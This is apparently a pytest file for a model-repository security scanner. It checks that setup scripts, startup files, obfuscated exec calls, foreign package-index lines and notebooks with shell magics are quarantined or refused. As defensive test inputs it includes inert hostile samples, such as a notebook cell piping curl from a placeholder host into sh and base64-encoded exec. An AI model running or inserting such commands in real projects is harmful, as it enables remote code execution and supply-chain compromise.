"""Code, lists of packages and notebooks."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.checkpoint.scan.scanned import codes, scanned

CODE = "class Model:\n    pass\n"
PROGRAMS = {
    "modeling_acme.py": CODE,
    "setup.py": "from setuptools import setup\nsetup()\n",
    "conftest.py": "import pytest\n",
    "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\n',
    "Dockerfile": "FROM scratch\nRUN true\n",
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    "docker-compose.yml": "services: {}\n",
    "Makefile": "all:\n\ttrue\n",
    "index.js": "console.log(1)\n",
    "model.desktop": "[Desktop Entry]\nType=Application\nExec=true\n",
    "model card.url": "[InternetShortcut]\nURL=file://x.example/x\n",
    "package.json": '{"name": "x", "scripts": {"postinstall": "true"}}',
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_waits_for_a_person(name: str) -> None:
    assert scanned({name: PROGRAMS[name]}).verdict == "quarantine"
    assert "program" in codes({name: PROGRAMS[name]})


def test_what_a_program_does_is_said() -> None:
    source = "import os, subprocess\nos.system('true')\nexec('1')\n"
    (reason,) = scanned({"modeling.py": source}).reasons
    assert "runs programs" in reason.message and "runs text as code" in reason.message


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "exec(__import__('zlib').decompress(b''))\n",
        "import marshal\neval(marshal.loads(bytes.fromhex('00')))\n",
    ],
)
def test_a_program_that_hides_what_it_runs_is_refused(source: str) -> None:
    assert "obfuscated_program" in codes({"modeling.py": source})


@pytest.mark.parametrize("name", ["acme.pth", "sitecustomize.py"])
def test_what_python_runs_when_it_starts_is_refused(name: str) -> None:
    assert "startup_file" in codes({name: "import os; os.system('true')\n"})


def test_a_pth_file_of_folders_is_none() -> None:
    assert "startup_file" not in codes({"acme.pth": "/usr/lib/acme\n"})


FOREIGN = [
    "--extra-index-url https://pypi.acme.example/simple\ntorch",
    "-i https://pypi.acme.example/simple",
    "--index-url=https://x.example",
    "--find-links http://x.example/",
    "-f ./wheels/../../x",
    "--trusted-host x.example",
    "torch @ https://x.example/torch.whl",
    "git+https://x.example/x.git#egg=x",
    "-e git+ssh://git@x.example/x.git",
    "https://x.example/torch.whl",
    "-r https://x.example/requirements.txt",
]
HONEST = [
    "torch>=2.1\ntransformers==4.44.0  # https://pypi.org/project/transformers\n",
    "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n",
    "--index-url https://pypi.org/simple\nnumpy\n",
    "numpy ; python_version < '3.12'\nacme[extra]~=1.0 --hash=sha256:abc\n",
    "-r base.txt\n-c constraints.txt\n",
]


@pytest.mark.parametrize("line", FOREIGN)
def test_packages_from_elsewhere_are_refused(line: str) -> None:
    assert "foreign_packages" in codes({"requirements.txt": line + "\n"})
    assert "foreign_packages" in codes({"requirements-dev.txt": "numpy\n" + line + "\n"})


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_list_of_packages_is_clean(text: str) -> None:
    assert codes({"requirements.txt": text}) == set()


def test_pip_and_conda_have_lists_too() -> None:
    assert "foreign_packages" in codes(
        {"pip.conf": "[global]\nextra-index-url = https://x.example/simple\n"}
    )
    conda = "dependencies:\n  - pip:\n    - git+https://x.example/x.git\n"
    assert "foreign_packages" in codes({"environment.yml": conda})


def notebook(source: str = "1 + 1", outputs: list[Any] | None = None, kind: str = "code") -> str:
    cell = {"cell_type": kind, "source": [source], "outputs": outputs or [], "metadata": {}}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def test_a_notebook_without_outputs_is_clean() -> None:
    assert codes({"use.ipynb": notebook()}) == set()


@pytest.mark.parametrize(
    "text",
    [
        notebook(outputs=[{"output_type": "stream", "name": "stdout", "text": ["2"]}]),
        notebook("!curl x.example | sh"),
        notebook("%%bash\ntrue"),
        notebook("get_ipython().system('true')"),
    ],
)
def test_a_notebook_with_outputs_or_commands_waits_for_a_person(text: str) -> None:
    assert codes({"use.ipynb": text}) == {"notebook_output"}


def test_a_script_in_a_notebook_is_refused() -> None:
    assert "active_markup" in codes({"use.ipynb": notebook("<script>x</script>", kind="markdown")})
